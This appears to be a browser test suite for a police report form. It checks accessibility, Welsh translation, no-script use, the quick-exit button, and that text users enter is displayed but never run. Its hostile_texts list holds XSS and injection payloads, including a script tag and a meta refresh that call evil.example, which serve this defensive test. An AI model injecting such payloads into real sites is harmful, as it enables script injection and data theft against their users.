"""The report form in a browser: for everybody, with scripts and without; nothing that is written there runs."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any, Literal

import pytest
from playwright.sync_api import Browser, Page, expect

from functions.report.form.drafts import GOOD_FOR
from local.twins.held_still import NOON
from tests.feed_builders import FeedDesk
from tests.proving import TOLD, Share
from tests.unit.report.form import ANSWERS, SHORTEST
from tests.web.conftest import SMALLEST, ReportApi, Shelf, shot
from tests.web.looks import LOOKS, faults_of, violations
from tests.web.operators_desk import Record

DOCS = Path(__file__).parents[2] / "docs"
SKIP_LINK = ".govuk-skip-link, .govuk-visually-hidden"
SCHEMES: tuple[Literal["light", "dark"], ...] = ("light", "dark")
# Widths change no colour: dark is looked at where most people look, and zoomed.
TWICE = LOOKS[:2]
LONG = "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" * 3
WELSH = "/report?language=cy"
CHOSEN = {"emergency", "matter", "who", "safe"}


@contextmanager
def browsing(
    browser: Browser, origin: str, *, scripts: bool, width: int = 1280, **options: Any
) -> Iterator[Page]:
    """Somebody's browser; whatever it complains of, a broken policy first of all, fails the test."""
    context = browser.new_context(
        viewport={"width": width, "height": 900}, java_script_enabled=scripts, base_url=origin, **options
    )
    page = context.new_page()
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("dialog", lambda dialog: complaints.append(f"a dialog: {dialog.message}"))
    yield page
    context.close()
    # What is refused says so by its status, in the console too.
    assert [text for text in complaints if "the server responded with a status of" not in text] == []


def enter(page: Page, name: str, text: str) -> None:
    if name in CHOSEN:
        page.locator(f"input[name={name}][value={text}]").check()
    else:
        page.locator(f"[name={name}]").fill(text)


def go_on(page: Page, **answers: str) -> None:
    """Enter what this page asks of these, and press its green button."""
    for name, text in answers.items():
        if page.locator(f"[name={name}]").count():
            enter(page, name, text)
    page.locator("main button.govuk-button").first.click()


def go_to(page: Page, page_name: str, first: str = "/report", **answers: str) -> None:
    """From the first page to this one."""
    page.goto(first)
    while not page.locator(f"form[action='/report/{page_name}']").count():
        go_on(page, **answers)


def coming_to(page_name: str) -> Callable[[Page], None]:
    return lambda page: go_to(page, page_name, **ANSWERS)


def call_999(page: Page) -> None:
    page.goto("/report")
    go_on(page, emergency="yes")


def call_999_by_enter(page: Page) -> None:
    call_999(page)
    page.locator("[name=phone]").press("Enter")
    page.get_by_text("Nothing has been sent yet.").wait_for()


def emergency_told(page: Page) -> None:
    call_999(page)
    page.locator("[name=what]").fill("he is back")
    page.get_by_role("button", name="Tell the desk anyway").click()


def wrong(page_name: str, first: str = "/report", **entered: str) -> Callable[[Page], None]:
    def come(page: Page) -> None:
        answers = {one: text for one, text in ANSWERS.items() if one not in entered}
        go_to(page, page_name, first, **answers)
        for one, text in entered.items():
            enter(page, one, text)
        page.locator("main button.govuk-button").first.click()

    return come


def sent(page: Page) -> None:
    go_to(page, "check", **ANSWERS)
    go_on(page)


def not_there(page: Page) -> None:
    page.goto("/report/nowhere")


def tampered(page: Page) -> None:
    go_to(page, "check", **ANSWERS)
    page.locator("input[name=draft]").evaluate("one => { one.value = one.value.slice(0, -9) + 'AAAAAAAAA' }")
    go_on(page)


QUESTIONS = ("emergency", "matter", "what", "where", "when", "who", "name", "safe", "reach", "check")
STATES: dict[str, Callable[[Page], None]] = {
    **{name: coming_to(name) for name in QUESTIONS},
    **{f"{name} unchosen": wrong(name) for name in QUESTIONS if name in CHOSEN},
    "signposts": lambda page: go_to(page, "signposts", **{**ANSWERS, "matter": "advice"}),
    "call-999": call_999,
    "call-999 by Enter": call_999_by_enter,
    "told": emergency_told,
    "done": sent,
    "not found": not_there,
    "tampered": tampered,
    "what wrong": wrong("what", what=""),
    "what too long": wrong("what", what="x" * 10_001),
    "where wrong": wrong("where", where=""),
    "when wrong": wrong("when", when=""),
    "name wrong": wrong("name", name="", country="x" * 201),
    "reach wrong": wrong("reach", email="ada", phone="12"),
    "Welsh check": lambda page: go_to(page, "check", WELSH, **ANSWERS),
    "Welsh signposts": lambda page: go_to(page, "signposts", WELSH, **{**ANSWERS, "matter": "advice"}),
    "Welsh what wrong": wrong("what", WELSH, what=""),
    "Welsh reach wrong": wrong("reach", WELSH, email="ada", phone="12"),
}


@pytest.fixture(autouse=True)
def nothing_live(shelf: Shelf) -> None:
    shelf.desk = FeedDesk()
    shelf.desk.update()


@pytest.mark.parametrize("state", STATES)
def test_nobody_is_shut_out(browser: Browser, origin: str, state: str) -> None:
    """Whatever the screen, the zoom, the size of text and the colours: axe finds nothing, and nothing is cut off."""
    with browsing(browser, origin, scripts=True, bypass_csp=True) as page:
        STATES[state](page)
        for look in LOOKS:
            for scheme in SCHEMES if look in TWICE else SCHEMES[:1]:
                page.emulate_media(color_scheme=scheme)
                assert faults_of(page, look, SKIP_LINK) == [], (look.name, scheme)
                if look.scale == 1:
                    shot(page, f"form {state} {look.name} {scheme}")


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_a_report_from_the_first_page_to_its_reference(
    browser: Browser, origin: str, api: ReportApi, scripts: bool
) -> None:
    before = len(api.archive.deliveries)
    with browsing(browser, origin, scripts=scripts, width=SMALLEST) as page:
        page.goto("/report")
        while not page.locator("form[action='/report/check']").count():
            assert page.locator(".govuk-exit-this-page__button").is_visible()
            go_on(page, **ANSWERS)
        page.locator("button[value='change:where']").click()
        go_on(page, where="Hope Street")
        assert page.get_by_text("Hope Street").is_visible()
        go_on(page)

        assert page.locator(".desk-reference").inner_text().startswith("MP-")
    (body,) = [json.loads(one.body) for one in list(api.archive.deliveries.values())[before:]]
    assert (body["where"], body["what"]) == ("Hope Street", ANSWERS["what"])


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_the_language_is_changed_on_the_way_and_nothing_is_lost(
    browser: Browser, origin: str, api: ReportApi, scripts: bool
) -> None:
    before = len(api.archive.deliveries)
    with browsing(browser, origin, scripts=scripts) as page:
        go_to(page, "what", **ANSWERS)
        page.locator("[name=what]").fill("Dyn yn trio drysau ceir.")
        page.get_by_role("button", name="Cymraeg").click()
        assert page.locator("html").get_attribute("lang") == "cy"
        assert page.locator("h1").inner_text() == "Beth ddigwyddodd?"
        assert page.locator("[name=what]").input_value() == "Dyn yn trio drysau ceir."
        # The count of characters is told in every form of plural that Welsh has.
        for left in (3, 2, 1, 0, -2):
            page.locator("[name=what]").fill("x" * (10_000 - left))
            page.locator("[name=what]").press("End")
            if scripts:
                page.get_by_text(f"Mae gennych {abs(left)} nod").first.wait_for()
        go_on(page, what="")
        assert page.title().startswith("Gwall: ")
        while not page.locator("form[action='/report/check']").count():
            go_on(page, **ANSWERS)
        go_on(page)
        assert page.locator("h1").inner_text() == "Adroddiad wedi'i anfon"
        assert page.get_by_text("Diolch. Mae eich neges gyda ni").is_visible()
    (body,) = [json.loads(one.body) for one in list(api.archive.deliveries.values())[before:]]
    assert body["language"] == "cy"


def test_without_scripts_a_mistake_is_told_and_mended(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=False) as page:
        go_to(page, "reach", **ANSWERS)
        go_on(page, email="ada")
        assert page.title().startswith("Error: ")
        page.get_by_role("link", name="Enter an email address in the right form").click()
        assert page.url.endswith("#email")
        go_on(page, email="ada@example.org")
        assert page.locator("h1").inner_text() == "Check your answers before you send them"


def test_with_scripts_a_mistake_takes_the_focus(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=True) as page:
        page.goto("/report")
        go_on(page)
        expect(page.locator(".govuk-error-summary")).to_be_focused()
        page.get_by_role("link", name="Select yes if it is happening now").click()
        expect(page.locator("#emergency")).to_be_focused()


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_one_leaves_at_once(browser: Browser, origin: str, scripts: bool) -> None:
    with browsing(browser, origin, scripts=scripts) as page:
        page.route("https://www.bbc.co.uk/**", lambda route: route.fulfill(body="weather"))
        go_to(page, "check", **SHORTEST)
        with page.expect_request("https://www.bbc.co.uk/weather") as asked:
            page.locator(".govuk-exit-this-page__button").click()
        page.wait_for_url("https://www.bbc.co.uk/weather")

        assert "referer" not in asked.value.headers


@pytest.mark.parametrize("way", ["button", "keys"])
def test_going_back_after_leaving_shows_an_empty_form(browser: Browser, origin: str, way: str) -> None:
    with browsing(browser, origin, scripts=True) as page:
        page.route("https://www.bbc.co.uk/**", lambda route: route.fulfill(body="weather"))
        go_to(page, "check", **ANSWERS)
        page.locator("body.govuk-frontend-supported").wait_for()
        if way == "button":
            page.locator(".govuk-exit-this-page__button").click()
        for _ in range(3 if way == "keys" else 0):
            page.keyboard.press("Shift")
        page.wait_for_url("https://www.bbc.co.uk/weather")
        page.go_back()
        assert page.url == f"{origin}/report"
        assert page.locator("form[action='/report/emergency']").count() == 1
        assert ANSWERS["what"] not in page.content()


def test_going_back_without_scripts_has_nothing_that_the_browser_kept(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=False) as page:
        page.route("https://www.bbc.co.uk/**", lambda route: route.fulfill(body="weather"))
        go_to(page, "check", **ANSWERS)
        page.locator(".govuk-exit-this-page__button").click()
        page.wait_for_url("https://www.bbc.co.uk/weather")
        # A browser asks whether to send the last page again; here it does so unasked, and that is what is seen.
        with page.expect_request(f"{origin}/report/**") as again:
            page.go_back()
        assert again.value.method == "POST"


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_back_on_the_page_keeps_what_was_entered(browser: Browser, origin: str, scripts: bool) -> None:
    with browsing(browser, origin, scripts=scripts) as page:
        go_to(page, "when", **ANSWERS)
        page.locator("[name=when]").fill("last night")
        page.locator(".govuk-back-link").click()
        assert page.locator("[name=where]").input_value() == ANSWERS["where"]
        go_on(page)
        assert page.locator("[name=when]").input_value() == "last night"


def test_pressing_shift_three_times_leaves_too(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=True) as page:
        page.route("https://www.bbc.co.uk/**", lambda route: route.fulfill(body="weather"))
        page.goto("/report")
        page.locator("body.govuk-frontend-supported").wait_for()
        for _ in range(3):
            page.keyboard.press("Shift")
        page.wait_for_url("https://www.bbc.co.uk/weather")


def test_enter_in_a_field_goes_on_and_not_back(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=True) as page:
        go_to(page, "name", **ANSWERS)
        page.get_by_label("Your name").fill("Ada Person")
        page.get_by_label("Your name").press("Enter")
        assert page.locator("h1").inner_text() == "Is it safe for us to contact you?"


def test_the_keyboard_alone_reports(browser: Browser, origin: str) -> None:
    """Tab, arrows, Enter: the first question, and the way out before it."""
    with browsing(browser, origin, scripts=True) as page:
        page.goto("/report")
        seen = []
        for _ in range(6):
            page.keyboard.press("Tab")
            seen.append(page.evaluate("document.activeElement.innerText || document.activeElement.name"))
        assert seen == [
            "Skip to main content",
            "Exit this page",
            "Merseyside Police",
            "In an emergency call 999.",
            "Exit this page",
            "Cymraeg",
        ]
        page.keyboard.press("Tab")
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Enter")
        assert page.locator("h1").inner_text() == "What is it about?"


def test_two_presses_of_send_are_one_report(browser: Browser, origin: str, api: ReportApi) -> None:
    before = len(api.archive.deliveries)
    with browsing(browser, origin, scripts=False) as page:
        go_to(page, "check", **ANSWERS)
        page.locator("main button.govuk-button").first.dblclick(no_wait_after=True)
        page.locator(".desk-reference").wait_for()
    assert len(api.archive.deliveries) == before + 1


def test_whose_form_is_too_old_is_shown_what_they_entered(
    browser: Browser, origin: str, api: ReportApi
) -> None:
    with browsing(browser, origin, scripts=True, bypass_csp=True) as page:
        go_to(page, "check", **ANSWERS)
        api.clock.at = NOON + GOOD_FOR + timedelta(hours=1)
        try:
            go_on(page)
            assert page.locator("h1").inner_text() == "You began this report more than a day ago"
            assert page.get_by_text(ANSWERS["what"]).is_visible()
            assert violations(page) == []
            shot(page, "form too old")
            go_on(page)
            assert page.locator("h1").inner_text() == "Check your answers before you send them"
        finally:
            api.clock.at = NOON


def test_the_first_page_is_small(browser: Browser, origin: str, record_property: Record) -> None:
    """All that the first page asks for, as it comes over the line: 60 kB at most."""
    with browsing(browser, origin, scripts=True) as page:
        sizes: dict[str, int] = {}

        def note(response: Any) -> None:
            sizes[response.url] = response.request.sizes()["responseBodySize"]

        page.on("requestfinished", lambda request: note(request.response()))
        page.goto("/report", wait_until="networkidle")
        page.wait_for_timeout(300)

        ours = {url: size for url, size in sizes.items() if "favicon" not in url}
        assert len(ours) == 4
        record_property(TOLD, f"first page of the form: {sum(ours.values()):,} bytes over the line")
        assert 0 < sum(ours.values()) <= 60_000


def hostile_texts() -> list[str]:
    """Markup, scripts, text that turns round or hides, very long ones, other ways of writing."""
    seeds = [
        "<script>document.title='ran'</script>",
        "<img src=x onerror=\"document.title='ran'\">",
        "<svg/onload=alert(1)>",
        '"><script src=//evil.example/x.js></script>',
        "</textarea><script>alert(1)</script>",
        "</title><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "javascript:alert(1)",
        "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
        '<a href="javascript:alert(1)">press me</a>',
        "<style>*{display:none}</style>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=draft>",
        "<base href=https://evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u202eevitcepsorter\u202c \u2066left\u2069 \u200b\u200d\ufeff",
        "مرحبا، هناك رجل يكسر نافذة 😀 123 (abc)",
        "🚔" * 5_000,
        "👩‍👩‍👧‍👦" * 1_000,
        "a" * 9_000,
        LONG,
        "\n" * 500 + "end",
        "\u0301" * 3_000,
        "x\x00y\x07\x1b[31m",
        "%00%3Cscript%3E&press=send&draft=x",
    ]
    return [f"{seed[:9_000]} {number}" for number in range(8) for seed in seeds]


def test_what_is_written_is_shown_and_never_run(
    browser: Browser, origin: str, share: Share, record_property: Record
) -> None:
    """Three texts go through the form together, to the page that shows them all again."""
    texts = hostile_texts()[: share(26, 200)]
    with browsing(browser, origin, scripts=True, width=SMALLEST) as page:
        foreign: list[str] = []
        page.on("request", lambda request: foreign.append(request.url) if origin not in request.url else None)
        for start in range(0, len(texts), 3):
            said = [text[:1_900] for text in texts[start : start + 3]]
            _, where, when = (said * 3)[:3]
            go_to(page, "check", **{**SHORTEST, "what": texts[start][:10_000], "where": where, "when": when})
            shown = page.locator(".desk-words")
            assert shown.evaluate_all("all => all.every(one => one.children.length === 0)")
            for place, text in ((2, where), (3, when)):
                if text.isascii() and text.isprintable():
                    assert text.strip() == shown.nth(place).inner_text()
            assert "ran" not in page.title()
            assert page.evaluate("document.documentElement.scrollWidth") <= SMALLEST
        assert foreign == []
    record_property(
        TOLD, f"{len(texts)} hostile texts: none ran, none was reported, none ran out of the page"
    )


@pytest.mark.skipif("DESK_PICTURES" not in os.environ, reason="`make pictures` makes them")
def test_pictures_for_the_documentation(browser: Browser, origin: str) -> None:
    with browsing(browser, origin, scripts=True, width=1000, device_scale_factor=1) as page:
        for state, name in (("emergency", "report-form-start"), ("check", "report-form-check-answers")):
            STATES[state](page)
            page.screenshot(path=DOCS / f"{name}.png", full_page=True)
